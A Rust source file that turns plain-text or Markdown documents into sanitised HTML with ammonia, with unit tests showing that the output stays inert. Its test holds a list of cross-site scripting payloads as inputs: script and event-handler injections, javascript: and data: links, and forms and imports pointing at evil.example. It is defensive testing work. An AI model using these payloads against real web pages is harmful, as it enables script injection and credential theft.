//! A document as HTML that can do nothing (SECURITY F1): no scripts, no styles, nothing that is loaded, no links but to
//! the web and to mailboxes. What is written as HTML is shown as it is written.

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd, html::push_html};
use shared::terms::Format;
use std::{collections::HashSet, sync::LazyLock};

/// How deep quotes and lists may stand in each other; what is deeper stands there as well. Without a bound a document
/// of nothing but marks would take hours.
const DEEPEST: usize = 12;

/// The elements that a document is made of.
const ELEMENTS: [&str; 24] = [
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "p",
    "ul",
    "ol",
    "li",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "blockquote",
    "hr",
    "br",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

/// The sanitizer: the last word on everything that is shown, whatever the parser made of it.
static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(ELEMENTS))
        .add_tag_attributes("a", ["href"])
        .add_tag_attributes("ol", ["start"])
        .url_schemes(HashSet::from(["https", "http", "mailto"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("external noopener noreferrer nofollow"))
        .strip_comments(true);
    builder
});

/// The document's HTML. Any text gives some; the same text always gives the same.
pub(crate) fn html(format: Format, text: &str) -> String {
    let raw = match format {
        Format::Plain => plain(text),
        Format::Markdown => markdown(text),
    };
    SANITIZER.clean(&raw).to_string()
}

/// A paragraph a line.
fn plain(text: &str) -> String {
    let lines = text.lines().filter(|line| !line.trim().is_empty());
    lines.map(|line| format!("<p>{}</p>\n", ammonia::clean_text(line))).collect()
}

fn markdown(text: &str) -> String {
    let mut raw = String::with_capacity(text.len() * 2);
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut open: Vec<Option<TagEnd>> = Vec::new();
    let mut depth = 0;
    let events = Parser::new_ext(text, options).filter_map(|event| match event {
        Event::Start(tag) => {
            let tag = Some(kept(tag)).filter(|_| depth < DEEPEST).flatten();
            depth += usize::from(tag.is_some());
            open.push(tag.as_ref().map(Tag::to_end));
            tag.map(Event::Start)
        }
        Event::End(_) => {
            let tag = open.pop().flatten();
            depth -= usize::from(tag.is_some());
            tag.map(Event::End)
        }
        // Seen, and inert.
        Event::Html(text) | Event::InlineHtml(text) => Some(Event::Text(text)),
        other => Some(other),
    });
    push_html(&mut raw, events);
    raw
}

/// The element that is shown: a heading below the page's own, HTML as a paragraph of its letters, of an image the words
/// that describe it.
fn kept(tag: Tag<'_>) -> Option<Tag<'_>> {
    match tag {
        Tag::Heading { level, .. } => {
            Some(Tag::Heading { level: below(level), id: None, classes: Vec::new(), attrs: Vec::new() })
        }
        Tag::HtmlBlock => Some(Tag::Paragraph),
        Tag::Image { .. } => None,
        other => Some(other),
    }
}

const fn below(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H2,
        HeadingLevel::H2 => HeadingLevel::H3,
        HeadingLevel::H3 => HeadingLevel::H4,
        HeadingLevel::H4 => HeadingLevel::H5,
        HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> String {
        html(Format::Markdown, text)
    }

    #[test]
    fn a_document_reads_as_it_was_meant() {
        let text = "# Rules\n\nBe **kind**.\n\n1. One\n2. Two\n\n[Us](https://usher.example/a?b=c)\n\n| A | B |\n|---|---|\n| 1 | 2 |\n";
        let page = shown(text);
        for part in [
            "<h2>Rules</h2>",
            "<strong>kind</strong>",
            "<li>One</li>",
            "href=\"https://usher.example/a?b=c\"",
            "<td>1</td>",
        ] {
            assert!(page.contains(part), "{part} in {page}");
        }
        assert_eq!(html(Format::Plain, "# One & <two>\n\nThree"), "<p># One &amp; &lt;two&gt;</p>\n<p>Three</p>\n");
    }

    #[test]
    fn sec_f01_a_document_can_do_nothing() {
        let attacks = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><use href=\"data:image/svg+xml,x#y\"/></svg>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<style>@import 'https://evil.example'</style>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt&colon;alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:x)",
            "<javascript:alert(1)>",
            "![x](https://evil.example/pixel.png)",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
            "[x](/sign-out)",
            "[x](//evil.example)",
            "[x][y]\n\n[y]: javascript:alert(1) 'title'",
            "<form action=https://evil.example><input name=password></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<base href=https://evil.example><meta http-equiv=refresh content=0>",
            "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
            "</main></body><script>alert(1)</script>",
            "# x {onclick=alert(1) .toast #main}",
            "<!-- --><script>alert(1)</script> -->",
            "<p style=\"position:fixed\" class=\"dialog\" id=\"main\">x</p>",
        ];
        for attack in attacks {
            for format in Format::ALL {
                let page = html(*format, attack);
                let tags = page.split('<').skip(1).map(|tag| tag.split('>').next().unwrap_or_default());
                for tag in tags {
                    let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default();
                    assert!(ELEMENTS.contains(&name), "{attack}: <{tag}> in {page}");
                    let attributes = tag.trim_start_matches(name).trim_start_matches('/');
                    let link = !attributes.contains("href=")
                        || ["href=\"https://", "href=\"http://", "href=\"mailto:"]
                            .iter()
                            .any(|it| attributes.contains(it));
                    let inert =
                        ["on", "style", "class", "id=", "src"].iter().all(|it| !attributes.contains(&format!(" {it}")));
                    assert!(link && inert, "{attack}: <{tag}> in {page}");
                }
            }
        }
        assert!(shown("<script>alert(1)</script>").contains("&lt;script&gt;"), "what was written is seen");
    }

    #[test]
    fn sec_f01_a_document_of_nothing_but_marks_stays_flat() {
        let marks =
            ["> ", "- ", "* a\n", "[", "![", "`", "<a ", "**a ", "_", "|", "\\", "~~", "&", "1. ", "[a](", "<!--"];
        for mark in marks {
            let page = shown(&mark.repeat(2_000));
            let (mut depth, mut deepest) = (0_usize, 0);
            for tag in page.split('<').skip(1).filter(|tag| !tag.starts_with("br") && !tag.starts_with("hr")) {
                depth = if tag.starts_with('/') { depth - 1 } else { depth + 1 };
                deepest = deepest.max(depth);
            }
            assert!(depth == 0 && deepest <= DEEPEST, "{mark:?}: {deepest} deep, {depth} left open");
        }
    }
}
